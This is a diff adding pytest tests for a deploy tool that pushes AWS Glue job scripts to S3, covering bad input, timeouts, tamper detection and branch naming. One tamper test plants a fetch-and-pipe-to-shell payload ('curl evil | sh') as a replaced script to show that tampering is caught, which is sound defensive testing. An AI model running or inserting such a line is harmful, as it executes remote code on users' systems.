@@ -1,13 +1,21 @@
 """The deploy step against the local endpoint: plans, content addressing, drift, bad input, prune."""
 
+import http.server
 import json
+import os
 import shutil
+import socket
+import subprocess
+import sys
+import threading
 from pathlib import Path
 
+import dagster as dg
 import pytest
 
 from glue_pipes_project import cli
 from glue_pipes_project.deploy_job import GlueDeployResource, deploy_glue_jobs
+from glue_pipes_project.settings import Settings, branch_id
 from tests.helpers import local_settings
 
 ROOT = Path(__file__).resolve().parent.parent
@@ -153,8 +161,10 @@ def test_prune_deletes_only_this_environments_managed_jobs(local_aws, deploy_env
     code, branch = deploy(capsys)
     assert code == 0 and branch["jobs"]["created"] == 2
     branch_names = {i["glue_job_name"] for i in branch["jobs"]["items"]}
-    assert branch_names == {f"{prefix}feature-x--glue_pipes_asset", f"{prefix}feature-x--glue_pipes_s3_asset"}
-    assert all("/branch-feature-x/artifacts/" in i["key"] for i in branch["files"]["items"])
+    env = branch_id("Feature/X")
+    assert env.startswith("feature-x-")
+    assert branch_names == {f"{prefix}{env}--glue_pipes_asset", f"{prefix}{env}--glue_pipes_s3_asset"}
+    assert all(f"/branch-{env}/artifacts/" in i["key"] for i in branch["files"]["items"])
     monkeypatch.delenv("GLUE_PIPES_ENV")
     monkeypatch.delenv("GLUE_PIPES_BRANCH")
     # A job someone created by hand under our prefix: not ours to delete.
@@ -196,3 +206,187 @@ def test_dagster_job_reports_what_it_changed(local_aws, deploy_env):
         assert metadata["jobs_created"].value == created
         assert metadata["jobs_unchanged"].value == unchanged
     assert second.output_for_node("deploy_glue_jobs_op")["files"]["uploaded"] == 0
+
+
+@pytest.mark.parametrize(
+    ("body", "fragment"),
+    [
+        ("jobs:\n  j:\n    script: glue_pipes_asset.py\n  j:\n    script: orders.py\n", "job 'j': set twice"),
+        ("a: &a [x, x]\nb: [*a, *a]\n", "anchors and aliases are not supported"),
+        (b"jobs:\n  j:\n    script: \xff.py\n", "not UTF-8: byte 0xff at line 3"),
+        ("jobs:\n  j:\n    script: glue_pipes_asset.py\n    timeout_minutes: true\n", "field 'timeout_minutes'"),
+    ],
+    ids=["duplicate-job", "alias", "not-utf8", "bool-timeout"],
+)
+def test_bad_manifest_exits_2_with_one_line_and_no_call(local_aws, deploy_env, jobs_dir, capsys, body, fragment):
+    manifest = jobs_dir / "jobs.yaml"
+    manifest.write_bytes(body if isinstance(body, bytes) else body.encode())
+    local_aws.reset_requests()
+    assert cli.main(["deploy"]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith(f"error: {manifest}: ") and fragment in err and err.count("\n") == 1, err
+    assert sum(local_aws.requests().values()) == 0
+
+
+def test_manifest_pointing_at_a_directory_exits_2(local_aws, deploy_env, jobs_dir, capsys):
+    local_aws.reset_requests()
+    assert cli.main(["deploy", "--manifest", str(jobs_dir)]) == 2
+    assert capsys.readouterr().err == f"error: {jobs_dir}: is a directory, not a YAML file\n"
+    assert sum(local_aws.requests().values()) == 0
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "fragment"),
+    [
+        ("GLUE_PIPES_BUCKET", "My_Bucket", "GLUE_PIPES_BUCKET is not a valid S3 bucket name (got 'My_Bucket')"),
+        ("GLUE_PIPES_BUCKET", "192.168.1.1", "GLUE_PIPES_BUCKET is not a valid S3 bucket name"),
+        ("GLUE_PIPES_JOB_PREFIX", "team a/", "GLUE_PIPES_JOB_PREFIX may hold letters, digits"),
+        ("GLUE_PIPES_AWS_READ_TIMEOUT", "soon", "GLUE_PIPES_AWS_READ_TIMEOUT must be a number of seconds"),
+    ],
+)
+def test_bad_settings_exit_2_with_one_line_and_no_call(
+    local_aws, deploy_env, monkeypatch, capsys, name, value, fragment
+):
+    monkeypatch.setenv(name, value)
+    local_aws.reset_requests()
+    with pytest.raises(SystemExit) as exited:
+        cli.main(["deploy"])
+    assert exited.value.code == 2
+    err = capsys.readouterr().err
+    assert fragment in err and err.count("\n") == 1, err
+    assert sum(local_aws.requests().values()) == 0
+
+
+class QuietHandler(http.server.BaseHTTPRequestHandler):
+    def log_message(self, *args) -> None:
+        pass
+
+
+def test_a_foreign_server_on_the_local_port_is_one_line(deploy_env, monkeypatch, capsys):
+    server = http.server.HTTPServer(("127.0.0.1", 0), QuietHandler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    monkeypatch.delenv("GLUE_PIPES_ENDPOINT_URL")
+    monkeypatch.setenv("GLUE_PIPES_LOCAL_PORT", str(server.server_port))
+    try:
+        assert cli.main(["deploy"]) == 1
+    finally:
+        server.shutdown()
+    err = capsys.readouterr().err
+    assert err.startswith(f"error: Port {server.server_port} is in use by something other than the glue-pipes")
+    assert "GLUE_PIPES_LOCAL_PORT" in err and err.count("\n") == 1, err
+
+
+def test_an_endpoint_that_never_answers_fails_deploy_after_two_attempts(deploy_env):
+    # Accepts connections and never answers. Before timeouts were set, deploy waited 551 s.
+    silent = socket.create_server(("127.0.0.1", 0))
+    accepted: list[socket.socket] = []
+    threading.Thread(target=lambda: accepted.extend(iter(lambda: silent.accept()[0], None)), daemon=True).start()
+    env = {
+        **{k: v for k, v in os.environ.items() if not k.startswith(("GLUE_PIPES_", "DAGSTER_CLOUD_"))},
+        **deploy_env,
+        "GLUE_PIPES_ENDPOINT_URL": f"http://127.0.0.1:{silent.getsockname()[1]}",
+        "GLUE_PIPES_AWS_CONNECT_TIMEOUT": "1",
+        "GLUE_PIPES_AWS_READ_TIMEOUT": "1",
+    }
+    command = [sys.executable, "-m", "glue_pipes_project.cli", "deploy"]
+    completed = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
+    silent.close()
+    assert completed.returncode == 1
+    assert completed.stderr.startswith("error: Read timeout on endpoint URL") and completed.stderr.count("\n") == 1
+    assert len(accepted) == 2  # the first call, tried twice, and nothing after it
+
+
+def overwrite(local_aws, key: str, body: bytes) -> None:
+    local_aws.client("s3").put_object(Bucket="glue-pipes-local", Key=key, Body=body)
+
+
+def test_check_reports_a_deployed_object_replaced_in_s3_and_deploy_restores_it(local_aws, deploy_env, capsys):
+    code, first = deploy(capsys)
+    assert code == 0
+    key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/glue_pipes_asset.py")
+    overwrite(local_aws, key, b"import os; os.system('curl evil | sh')\n")
+
+    local_aws.reset_requests()
+    assert cli.main(["deploy", "--check"]) == 3
+    out = capsys.readouterr().out
+    assert f"upload     glue_jobs/glue_pipes_asset.py  -> {key}" in out
+    assert "replaces the object there, which has no SHA-256 checksum: replaced after deploy" in out
+    assert writes(local_aws) == {}
+
+    code, repaired = deploy(capsys)
+    assert code == 0
+    assert [(i["file"], i["tampered"]) for i in repaired["files"]["items"] if "tampered" in i] == [
+        ("glue_jobs/glue_pipes_asset.py", "has no SHA-256 checksum: replaced after deploy")
+    ]
+    assert repaired["files"]["uploaded"] == 1 and repaired["jobs"]["updated"] == 0
+    body = local_aws.client("s3").get_object(Bucket="glue-pipes-local", Key=key)["Body"].read()
+    assert body == (ROOT / "glue_jobs" / "glue_pipes_asset.py").read_bytes()
+    assert deploy(capsys, "--check")[0] == 0
+
+
+def test_check_reports_an_object_replaced_with_a_forged_key_checksum(local_aws, deploy_env, capsys):
+    code, first = deploy(capsys)
+    key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/orders.py")
+    # A replacement uploaded with a SHA-256 checksum of its own content: S3 stores the true one.
+    local_aws.client("s3").put_object(Bucket="glue-pipes-local", Key=key, Body=b"X = 1\n", ChecksumAlgorithm="SHA256")
+    code, plan = deploy(capsys, "--check")
+    assert code == 3
+    (item,) = [i for i in plan["files"]["items"] if "tampered" in i]
+    assert (item["key"], item["tampered"]) == (key, "content differs from what was deployed (SHA-256 mismatch)")
+
+
+def test_a_run_without_deploy_on_run_refuses_a_replaced_script(local_aws, deploy_env, capsys):
+    from glue_pipes_project.assets import glue_pipes_asset
+    from glue_pipes_project.resources import GluePipesClientResource
+
+    code, first = deploy(capsys)
+    assert code == 0
+    key = next(i["key"] for i in first["files"]["items"] if i["file"] == "glue_jobs/glue_pipes_asset.py")
+    overwrite(local_aws, key, b"print('not what was reviewed')\n")
+    env = {k: v for k, v in deploy_env.items() if k != "GLUE_PIPES_ENDPOINT_URL"}
+    settings = local_settings(local_aws, GLUE_PIPES_DEPLOY_ON_RUN="false", **env)
+    local_aws.reset_requests()
+    result = dg.materialize(
+        [glue_pipes_asset],
+        resources={"glue_pipes_client": GluePipesClientResource(settings=settings)},
+        raise_on_error=False,
+    )
+    assert not result.success
+    error = next(e for e in result.all_events if e.is_failure).event_specific_data.error.to_string()
+    assert f"s3://glue-pipes-local/{key} (Glue job '{deploy_env['GLUE_PIPES_JOB_PREFIX']}glue_pipes_asset')" in error
+    assert "has no SHA-256 checksum: replaced after deploy" in error
+    assert local_aws.requests().get("glue:StartJobRun", 0) == 0
+
+
+@pytest.mark.parametrize(
+    "pair", [("feat/a", "feat-a"), ("Feature/X", "feature/x"), ("a.b", "a_b"), ("x" * 41, "x" * 42)]
+)
+def test_branch_names_that_slug_alike_get_different_environments(pair):
+    first, second = (Settings.from_env({"GLUE_PIPES_ENV": "branch", "GLUE_PIPES_BRANCH": b}) for b in pair)
+    assert first.branch != second.branch
+    assert first.branch.split("-")[0] == second.branch.split("-")[0]  # still readable
+    assert len(first.branch) <= 49
+
+
+def test_prune_in_one_branch_keeps_a_branch_whose_name_slugs_the_same(
+    local_aws, deploy_env, jobs_dir, monkeypatch, capsys
+):
+    glue = local_aws.client("glue")
+    monkeypatch.setenv("GLUE_PIPES_ENV", "branch")
+    deployed = {}
+    for branch in ("feat/a", "feat-a"):
+        monkeypatch.setenv("GLUE_PIPES_BRANCH", branch)
+        code, result = deploy(capsys)
+        assert code == 0 and result["jobs"]["created"] == 2, result
+        deployed[branch] = {i["glue_job_name"] for i in result["jobs"]["items"]}
+    assert not deployed["feat/a"] & deployed["feat-a"]
+
+    manifest = jobs_dir / "jobs.yaml"
+    text = manifest.read_text()
+    manifest.write_text(text[: text.index("  glue_pipes_s3_asset:")])
+    monkeypatch.setenv("GLUE_PIPES_BRANCH", "feat/a")
+    code, result = deploy(capsys, "--prune")
+    assert code == 0 and result["jobs"]["deleted"] == 1
+    remaining = {job["Name"] for page in glue.get_paginator("get_jobs").paginate() for job in page["Jobs"]}
+    assert deployed["feat-a"] <= remaining
+    assert len(deployed["feat/a"] - remaining) == 1
